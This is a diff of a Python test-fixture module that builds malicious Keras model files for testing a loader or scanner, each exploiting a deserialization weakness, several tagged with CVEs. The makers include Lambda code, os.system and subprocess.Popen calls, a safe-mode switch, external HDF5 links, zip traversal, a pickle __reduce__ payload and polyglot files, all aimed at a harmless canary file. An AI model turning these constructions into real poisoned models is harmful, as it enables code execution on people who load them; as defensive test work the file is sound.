@@ -3,7 +3,7 @@
 `NETWORKS` and `IMAGES` have a maker for each kind. A maker writes the file into a folder in one of
 the `FORMS`: plain, nested (in an inner network or a group deep down), or renamed (under the suffix
 of the other format, with harmless names inside). The folder's `canary` is what payloads would
-write, its `secret` what links would read.
+write, its `secret` what links would read. What they do to somebody who trusts them is in proofs.py.
 """
 
 import io
@@ -14,7 +14,6 @@ from collections.abc import Callable
 from pathlib import Path
 
 import h5py
-import keras
 import numpy as np
 from conftest import SHAPE, random_images, tiny_network, write_images
 from keras.src.utils import python_utils
@@ -44,19 +43,30 @@ def named(folder: Path, suffix: str, form: str) -> Path:
 
 
 def base(suffix: str) -> bytes:
-    """A harmless network's file."""
-    if suffix not in _BASES:
-        buffer = Path(_BASES["folder"]) / f"base{suffix}"
-        tiny_network().save(buffer)
-        _BASES[suffix] = buffer.read_bytes()
+    """A harmless network's file, which older releases of Keras 3 read as well."""
     return _BASES[suffix]
 
 
-_BASES: dict = {}
+_BASES: dict[str, bytes] = {}
 
 
 def make_bases(folder: Path) -> None:
-    _BASES["folder"] = folder
+    for suffix in (".h5", ".keras"):
+        tiny_network().save(folder / f"base{suffix}")
+        _BASES[suffix] = (folder / f"base{suffix}").read_bytes()
+    for suffix in (".h5", ".keras"):
+        plain = edit_text(folder, "plain", suffix, lambda text: json.dumps(older(json.loads(text))))
+        _BASES[suffix] = plain.read_bytes()
+
+
+def older(found: object) -> object:
+    """A configuration without what Keras 3.10 does not know yet."""
+    if isinstance(found, list):
+        return [older(item) for item in found]
+    if not isinstance(found, dict):
+        return found
+    newer = ("quantization_config", "input_axes", "output_axes")
+    return {key: older(value) for key, value in found.items() if key not in newer}
 
 
 # ---------------------------------------------------------------- editing files
@@ -120,6 +130,37 @@ def layer(folder: Path, form: str, suffix: str, payload: dict) -> Path:
     return edit_layers(folder, form, suffix, lambda layers: layers.insert(1, payload))
 
 
+def graph(folder: Path, form: str, *layers: dict) -> Path:
+    """A .keras of a functional network with these layers too; nested, it is inside another one."""
+    image = {"batch_shape": [None, *SHAPE], "name": "image"}
+    tensor = {"shape": [None, *SHAPE], "dtype": "float32", "keras_history": ["image", 0, 0]}
+    node = {"args": [{"class_name": "__keras_tensor__", "config": tensor}], "kwargs": {}}
+    whole = [
+        keras_object("keras.layers", "InputLayer", image) | {"name": "image", "inbound_nodes": []},
+        keras_object("keras.layers", "Flatten", {}) | {"name": "flat", "inbound_nodes": [node]},
+        *layers,
+    ]
+    config = {"name": "graph", "layers": whole, "input_layers": [["image", 0, 0]]}
+    config["output_layers"] = [["flat", 0, 0]]
+    payload = keras_object("keras.src.models.functional", "Functional", config)
+    payload["registered_name"] = "Functional"
+    if form == "nested":
+        return layer(folder, form, ".keras", payload)
+    return edit_text(folder, form, ".keras", lambda _: json.dumps(payload))
+
+
+def keras_object(module: str, class_name: str, config: dict) -> dict:
+    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}
+
+
+def call(payload: dict, form: str, index: int, **keywords: object) -> dict:
+    """Have a layer or operation of a `graph` called while Keras builds it, with these alone."""
+    name = f"dropout_{index}" if form == "renamed" else f"it_{index}"
+    payload["config"]["name"] = name
+    node = {"args": [], "kwargs": keywords}
+    return payload | {"name": name, "inbound_nodes": [node]}
+
+
 def setting(folder: Path, form: str, suffix: str, class_name: str, **settings: object) -> Path:
     """Change settings of the first layer of a class."""
 
@@ -137,10 +178,18 @@ def network(kind: str) -> Callable[[Maker], Maker]:
 # ---------------------------------------------------------------- code
 
 
-def payload_code(folder: Path) -> list:
+def payload_code(folder: Path, arguments: str = "x") -> list:
     """A Python function, as Keras stores a lambda's code, that writes the canary."""
-    source = f"lambda x: (open({str(canary(folder))!r}, 'w').close(), x)[1]"
+    answer = arguments or None
+    source = f"lambda {arguments}: (open({str(canary(folder))!r}, 'w').close(), {answer})[1]"
     return list(python_utils.func_dump(eval(source)))
+
+
+def lambda_function(folder: Path) -> dict:
+    """The same as .keras files hold it."""
+    code, defaults, closure = payload_code(folder)
+    value = {"code": code, "defaults": defaults, "closure": closure}
+    return {"class_name": "__lambda__", "config": value}
 
 
 @network("Lambda in .h5 (CVE-2025-9905)")
@@ -151,44 +200,97 @@ def lambda_h5(folder: Path, form: str) -> Path:
 
 @network("Lambda in .keras")
 def lambda_keras(folder: Path, form: str) -> Path:
-    code, defaults, closure = payload_code(folder)
-    value = {"code": code, "defaults": defaults, "closure": closure}
-    function = {"class_name": "__lambda__", "config": value}
-    config = {"function": function, "arguments": {}}
-    payload = {"module": "keras.layers", "class_name": "Lambda", "config": config}
-    return layer(folder, form, ".keras", payload | {"registered_name": None})
+    config = {"function": lambda_function(folder), "arguments": {}}
+    return layer(folder, form, ".keras", keras_object("keras.layers", "Lambda", config))
 
 
 def function(module: str, name: str) -> dict:
     return {"module": module, "class_name": "function", "config": name, "registered_name": name}
 
 
-@network("function of a module as an activation (CVE-2025-1550)")
+def called(function: dict, form: str, value: object, **arguments: object) -> dict:
+    """A Lambda layer that calls a function, found by its name, with a value and arguments."""
+    config = {"function": function, "arguments": arguments}
+    payload = keras_object("keras.layers", "Lambda", config)
+    payload["build_config"] = {"input_shape": [None, *SHAPE]}
+    return call(payload, form, 0, inputs=value)
+
+
+def condition(form: str, index: int, function: dict) -> dict:
+    """An operation of Keras that calls a function without arguments."""
+    payload = keras_object("keras.src.ops.core", "Cond", {}) | {"registered_name": "Cond"}
+    return call(payload, form, index, pred=True, true_fn=function, false_fn=function)
+
+
+def keyword_code(folder: Path) -> dict:
+    return {"class_name": "__lambda__", "config": {"value": payload_code(folder, "")}}
+
+
+@network("function of a module (CVE-2025-1550)")
 def module_function(folder: Path, form: str) -> Path:
+    command = f"touch '{canary(folder)}'"
+    return graph(folder, form, called(function("os", "system"), form, command))
+
+
+@network("function of a module as an activation")
+def module_activation(folder: Path, form: str) -> Path:
     return setting(folder, form, ".keras", "Conv2D", activation=function("os", "system"))
 
 
-@network("class of a module as a layer (CVE-2025-1550)")
+@network("class of a module (CVE-2025-1550)")
 def module_class(folder: Path, form: str) -> Path:
-    command = {"args": f"touch {canary(folder)}", "shell": True}
-    payload = {"module": "subprocess", "class_name": "Popen", "config": command}
-    return layer(folder, form, ".keras", payload | {"registered_name": None})
+    """The module lies beside the file, and is run when it is imported."""
+    (folder / "payload.py").write_text(f"open({str(canary(folder))!r}, 'w').close()")
+    return layer(folder, form, ".keras", keras_object("payload", "Layer", {}))
 
 
-@network("Lambda of get_file (CVE-2025-8747)")
+@network("class of a module as the network (CVE-2025-1550)")
+def module_network(folder: Path, form: str) -> Path:
+    path = module_class(folder, form)
+    if form == "nested":
+        return path
+    named = json.dumps(keras_object("payload", "Layer", {}))
+    return edit_text(folder, form, ".keras", lambda _: named)
+
+
+@network("class with a command")
+def module_command(folder: Path, form: str) -> Path:
+    command = {"args": f"touch '{canary(folder)}'", "shell": True}
+    return layer(folder, form, ".keras", keras_object("subprocess", "Popen", command))
+
+
+@network("function of Keras that fetches a file (CVE-2025-8747)")
 def get_file(folder: Path, form: str) -> Path:
-    origin = {"fname": str(canary(folder)), "origin": secret(folder).as_uri()}
-    config = {"function": function("keras.utils", "get_file"), "arguments": origin}
-    payload = {"module": "keras.layers", "class_name": "Lambda", "config": config}
-    return layer(folder, form, ".keras", payload | {"registered_name": None})
+    where = {"origin": secret(folder).as_uri(), "cache_dir": str(folder), "cache_subdir": "."}
+    fetch = function("keras.utils", "get_file")
+    return graph(folder, form, called(fetch, form, canary(folder).name, **where))
 
 
 @network("safe mode switched off from within (CVE-2025-9906)")
 def unsafe_mode(folder: Path, form: str) -> Path:
+    """First the switch is called, then code is run that safe mode would have refused."""
+    switch = function("keras.config", "enable_unsafe_deserialization")
+    code = keyword_code(folder)
+    return graph(folder, form, condition(form, 0, switch), condition(form, 1, code))
+
+
+@network("code in an operation's keywords")
+def operation_keywords(folder: Path, form: str) -> Path:
+    """The second half of the one before."""
+    return graph(folder, form, condition(form, 1, keyword_code(folder)))
+
+
+@network("function as a layer")
+def function_layer(folder: Path, form: str) -> Path:
     def edit(layers: list) -> None:
         layers.insert(1, function("keras.config", "enable_unsafe_deserialization"))
 
     return edit_layers(folder, form, ".keras", edit)
+
+
+@network("layer named as a path")
+def climbing(folder: Path, form: str) -> Path:
+    return setting(folder, form, ".keras", "Dense", name="..\\..\\canary")
 
 
 def saved_model(folder: Path) -> Path:
@@ -199,44 +301,45 @@ def saved_model(folder: Path) -> Path:
         @tf.function(input_signature=[tf.TensorSpec((None, *SHAPE))])
         def serve(self, x):
             tf.io.write_file(str(canary(folder)), "called")
-            return {"out": x}
+            return x
 
-    payload = Payload()
-    where = folder / "saved"
-    tf.saved_model.save(payload, where, signatures={"serving_default": payload.serve})
-    return where
+    tf.saved_model.save(Payload(), folder / "saved")
+    return folder / "saved"
 
 
 @network("TFSMLayer (CVE-2026-1462)")
 def tfsm_layer(folder: Path, form: str) -> Path:
-    config = {"filepath": str(folder / "saved"), "call_endpoint": "serving_default"}
-    payload = {"module": "keras.layers", "class_name": "TFSMLayer", "config": config}
-    return layer(folder, form, ".keras", payload | {"registered_name": None})
+    config = {"filepath": str(folder / "saved"), "call_endpoint": "serve"}
+    return layer(folder, form, ".keras", keras_object("keras.layers", "TFSMLayer", config))
 
 
 @network("TFSMLayer in .h5")
 def tfsm_layer_h5(folder: Path, form: str) -> Path:
-    config = {"filepath": str(folder / "saved"), "call_endpoint": "serving_default"}
+    config = {"filepath": str(folder / "saved"), "call_endpoint": "serve"}
     return layer(folder, form, ".h5", {"class_name": "TFSMLayer", "config": config})
 
 
-@network("vocabulary from a file")
+@network("vocabulary from a file (CVE-2025-12058)")
 def vocabulary(folder: Path, form: str) -> Path:
     config = {"vocabulary": str(secret(folder)), "output_mode": "int"}
-    payload = {"module": "keras.layers", "class_name": "StringLookup", "config": config}
-    return layer(folder, form, ".keras", payload | {"registered_name": None})
+    return layer(folder, form, ".keras", keras_object("keras.layers", "StringLookup", config))
 
 
 @network("Lambda inside a wrapper")
 def wrapped(folder: Path, form: str) -> Path:
-    inner = {"class_name": "Lambda", "config": {"function": payload_code(folder)}}
+    config = {"name": "inner", "function": lambda_function(folder), "arguments": {}}
+    inner = keras_object("keras.layers", "Lambda", config)
     return layer(folder, form, ".h5", {"class_name": "TimeDistributed", "config": {"layer": inner}})
 
 
 @network("operation by name")
 def operation(folder: Path, form: str) -> Path:
-    payload = {"class_name": "TFOpLambda", "config": {"function": "io.write_file"}}
-    return layer(folder, form, ".h5", payload)
+    """It is called with constants while Keras 2 builds the network."""
+    name = "dropout" if form == "renamed" else "tf.io.write_file"
+    config = {"name": name, "trainable": True, "dtype": "float32", "function": "io.write_file"}
+    constants = ["_CONSTANT_VALUE", -1, str(canary(folder)), {"contents": "called"}]
+    payload = {"class_name": "TFOpLambda", "config": config, "name": name}
+    return graph_h5(folder, form, payload | {"inbound_nodes": [constants]})
 
 
 @network("Keras operation")
@@ -282,7 +385,10 @@ def registered(folder: Path, form: str) -> Path:
 
 @network("unknown field of a layer")
 def field(folder: Path, form: str) -> Path:
-    return layer(folder, form, ".keras", dense(on_load=function("os", "system")))
+    def edit(layers: list) -> None:
+        layers[-1]["on_load"] = function("os", "system")
+
+    return edit_layers(folder, form, ".keras", edit)
 
 
 @network("unknown setting")
@@ -319,21 +425,26 @@ def type_spec(folder: Path, form: str) -> Path:
     return setting(folder, form, ".h5", "InputLayer" if form != "nested" else "Conv2D", name=spec)
 
 
-@network("code in a call's keywords")
-def keywords(folder: Path, form: str) -> Path:
-    """Only a functional network has calls: it is the inner one, or the only one."""
-    lambda_ = {"class_name": "__lambda__", "config": {"value": payload_code(folder)}}
-    image = {"batch_shape": [None, *SHAPE], "name": "image"}
-    flat = [["image", 0, 0, {"training": lambda_}]]
-    layers = [
+def graph_h5(folder: Path, form: str, *layers: dict, last: str = "") -> Path:
+    """An .h5 of a functional network with these layers; nested, it is inside another one."""
+    image = {"batch_input_shape": [None, *SHAPE], "name": "image"}
+    whole = [
         {"class_name": "InputLayer", "config": image, "name": "image", "inbound_nodes": []},
-        {"class_name": "Flatten", "config": {}, "name": "flat", "inbound_nodes": [flat]},
+        *layers,
     ]
-    ends = {"input_layers": [["image", 0, 0]], "output_layers": [["flat", 0, 0]]}
-    payload = {"class_name": "Functional", "config": {"name": "f", "layers": layers} | ends}
+    ends = {"input_layers": [["image", 0, 0]], "output_layers": [[last or "image", 0, 0]]}
+    payload = {"class_name": "Functional", "config": {"name": "f", "layers": whole} | ends}
     if form == "nested":
         return layer(folder, form, ".h5", payload)
     return edit_text(folder, form, ".h5", lambda _: json.dumps(payload))
+
+
+@network("code in a call's keywords")
+def keywords(folder: Path, form: str) -> Path:
+    lambda_ = {"class_name": "__lambda__", "config": {"value": payload_code(folder)}}
+    node = [["image", 0, 0, {"training": lambda_}]]
+    flat = {"class_name": "Flatten", "config": {}, "name": "flat", "inbound_nodes": [node]}
+    return graph_h5(folder, form, flat, last="flat")
 
 
 # ---------------------------------------------------------------- JSON
@@ -422,18 +533,13 @@ def upsampled(folder: Path, form: str) -> Path:
 @network("doubling a tensor again and again")
 def doubled(folder: Path, form: str) -> Path:
     names = ["image", *(f"twice_{index}" for index in range(30))]
-    image = {"batch_shape": [None, *SHAPE], "name": "image"}
-    layers = [{"class_name": "InputLayer", "config": image, "name": "image", "inbound_nodes": []}]
+    layers = []
     for before, name in zip(names, names[1:], strict=False):
         node = [[before, 0, 0, {}], [before, 0, 0, {}]]
         layers.append(
             {"class_name": "Concatenate", "config": {}, "name": name, "inbound_nodes": [node]}
         )
-    ends = {"input_layers": [["image", 0, 0]], "output_layers": [[names[-1], 0, 0]]}
-    payload = {"class_name": "Functional", "config": {"name": "f", "layers": layers} | ends}
-    if form == "nested":
-        return layer(folder, form, ".h5", payload)
-    return edit_text(folder, form, ".h5", lambda _: json.dumps(payload))
+    return graph_h5(folder, form, *layers, last=names[-1])
 
 
 def disagrees(name: str, class_name: str, **settings: object) -> None:
@@ -533,7 +639,8 @@ def put_plugin(group: h5py.Group, folder: Path) -> None:
     plan.set_chunk((6,))
     plan.set_filter(32_015, h5py.h5z.FLAG_OPTIONAL, (3,))  # Zstandard, as a plugin
     space = h5py.h5s.create_simple((6,))
-    h5py.h5d.create(group.id, b"it", h5py.h5t.IEEE_F32LE, space, plan)
+    array = h5py.h5d.create(group.id, b"it", h5py.h5t.IEEE_F32LE, space, plan)
+    array.write_direct_chunk((0,), bytes(24))
 
 
 def put_named_type(group: h5py.Group, folder: Path) -> None:
@@ -553,20 +660,57 @@ in_h5("filter from a plugin", put_plugin)
 in_h5("named type", put_named_type)
 
 
-@network("external storage inside a zip (CVE-2026-1669)")
-def storage_in_zip(folder: Path, form: str) -> Path:
-    def edit(entries: dict[str, bytes]) -> None:
-        content = io.BytesIO(entries["model.weights.h5"])
-        with h5py.File(content, "r+") as file:
-            group = file["layers/dense/vars"]
-            del group["1"]
+def weights_elsewhere(kind: str, put: Callable[[h5py.Group, Path], None]) -> None:
+    """A kind of .keras in which an array of the last layer comes from another file."""
+
+    @network(kind)
+    def of_network(folder: Path, form: str) -> Path:
+        def edit(entries: dict[str, bytes]) -> None:
+            content = io.BytesIO(entries["model.weights.h5"])
+            with h5py.File(content, "r+") as file:
+                group = file["layers/dense/vars"]
+                del group["1"]
+                put(group.create_group("deep/down") if form == "nested" else group, folder)
+            entries["model.weights.h5"] = content.getvalue()
+
+        return edit_keras(folder, form, edit)
+
+
+def put_stored_weights(group: h5py.Group, folder: Path) -> None:
+    group.create_dataset("1", (5,), "f4", external=[(str(secret(folder)), 0, 20)])
+
+
+weights_elsewhere("external storage inside a zip (CVE-2026-1669)", put_stored_weights)
+
+
+def weights_elsewhere_h5(kind: str, put: Callable[[h5py.Group, Path], None]) -> None:
+    """A kind of .h5 in which an array of the last layer comes from another file."""
+
+    @network(kind)
+    def of_network(folder: Path, form: str) -> Path:
+        def edit(file: h5py.File) -> None:
+            group = file["model_weights/output/sequential/output"]
+            del group["bias"]
             if form == "nested":
                 group = group.create_group("deep/down")
-            where = [(str(secret(folder)), 0, 20)]
-            group.create_dataset("1", (5,), "f4", external=where)
-        entries["model.weights.h5"] = content.getvalue()
+            put(group, folder)
+            group.move("it", "bias")
 
-    return edit_keras(folder, form, edit)
+        return edit_h5(folder, form, edit)
+
+
+def put_linked_numbers(group: h5py.Group, folder: Path) -> None:
+    with h5py.File(folder / "secret", "w") as file:
+        file["words"] = np.frombuffer(SECRET[:20], "f4")
+    group["it"] = h5py.ExternalLink(str(folder / "secret"), "words")
+
+
+def put_stored_numbers(group: h5py.Group, folder: Path) -> None:
+    group.create_dataset("it", (5,), "f4", external=[(str(secret(folder)), 0, 20)])
+
+
+weights_elsewhere_h5("external link for weights in .h5 (CVE-2026-1669)", put_linked_numbers)
+weights_elsewhere_h5("external storage for weights in .h5 (CVE-2026-1669)", put_stored_numbers)
 
 
 @network("names in two forms")
@@ -585,20 +729,21 @@ def user_block(folder: Path, form: str) -> Path:
     with h5py.File(path, "w", userblock_size=4096 if form == "nested" else 512) as file:
         file["it"] = 1
     with open(path, "r+b") as file:
-        file.write(b"#!/bin/sh\n")
+        file.write(f"#!/bin/sh\ntouch '{canary(folder)}'\nexit\n".encode())
     return path
 
 
 @network("HDF5 and zip at once")
 def polyglot(folder: Path, form: str) -> Path:
-    path = named(folder, ".h5", form)
-    path.write_bytes(base(".h5"))
-    inner = edit_keras(folder, "plain", lambda entries: None)
-    with zipfile.ZipFile(inner) as source, zipfile.ZipFile(path, "a") as both:
+    """A harmless network for who reads HDF5, a Lambda for who reads a zip."""
+    whole = io.BytesIO(base(".h5"))
+    inner = lambda_keras(folder, "nested" if form == "nested" else "plain")
+    with zipfile.ZipFile(inner) as source, zipfile.ZipFile(whole, "a") as both:
         for name in source.namelist():
             both.writestr(name, source.read(name))
-    if inner != path:
-        inner.unlink()
+    inner.unlink()
+    path = named(folder, ".h5", form)
+    path.write_bytes(whole.getvalue())
     return path
 
 
@@ -622,16 +767,8 @@ def put_absolute(archive: zipfile.ZipFile, form: str) -> None:
     archive.writestr(f"/tmp/{form}/canary", "written")
 
 
-def put_again(archive: zipfile.ZipFile, form: str) -> None:
-    archive.writestr("config.json" if form != "nested" else "model.weights.h5", "{}")
-
-
 def put_assets(archive: zipfile.ZipFile, form: str) -> None:
     archive.writestr("assets/layers/string_lookup/vocabulary.txt", "word")
-
-
-def put_pickle(archive: zipfile.ZipFile, form: str) -> None:
-    archive.writestr("model.weights.npz", "pickled")
 
 
 def put_case(archive: zipfile.ZipFile, form: str) -> None:
@@ -640,10 +777,44 @@ def put_case(archive: zipfile.ZipFile, form: str) -> None:
 
 in_zip("zip entry that climbs (GHSA-hqp4-2352-xf5r)", put_traversal)
 in_zip("zip entry from the root", put_absolute)
-in_zip("zip entry twice", put_again)
 in_zip("zip with assets", put_assets)
-in_zip("zip with pickled weights", put_pickle)
 in_zip("zip entry in other letters", put_case)
+
+
+@network("zip entry twice")
+def again(folder: Path, form: str) -> Path:
+    """Who reads the first of them finds a harmless network, Python's zipfile finds the last."""
+    path = lambda_keras(folder, form)
+    with zipfile.ZipFile(path) as archive:
+        config = archive.read("config.json")
+    edit_keras(folder, form, lambda entries: None)
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr("config.json", config)
+    return path
+
+
+class Payload:
+    """What writes the canary when it is unpickled."""
+
+    def __init__(self, path: Path):
+        self.path = path
+
+    def __reduce__(self) -> tuple:
+        return open, (str(self.path), "w")
+
+
+@network("zip with pickled weights")
+def pickled(folder: Path, form: str) -> Path:
+    def edit(entries: dict[str, bytes]) -> None:
+        content = io.BytesIO()
+        array = np.empty((), object)
+        array[()] = Payload(canary(folder))
+        where = "layers/dense" if form != "nested" else "layers/sequential/layers/dense"
+        np.savez(content, **{where: array})
+        entries["model.weights.npz"] = content.getvalue()
+        del entries["model.weights.h5"]
+
+    return edit_keras(folder, form, edit)
 
 
 @network("zip bomb")
@@ -666,8 +837,3 @@ def packed(folder: Path, form: str) -> Path:
             new.writestr(name, old.read(name), way)
     (folder / "old").unlink()
     return path
-
-
-def loads_with_keras(path: Path, **options: object) -> keras.Model:
-    """What a user without this project does."""
-    return keras.models.load_model(path, compile=False, **options)
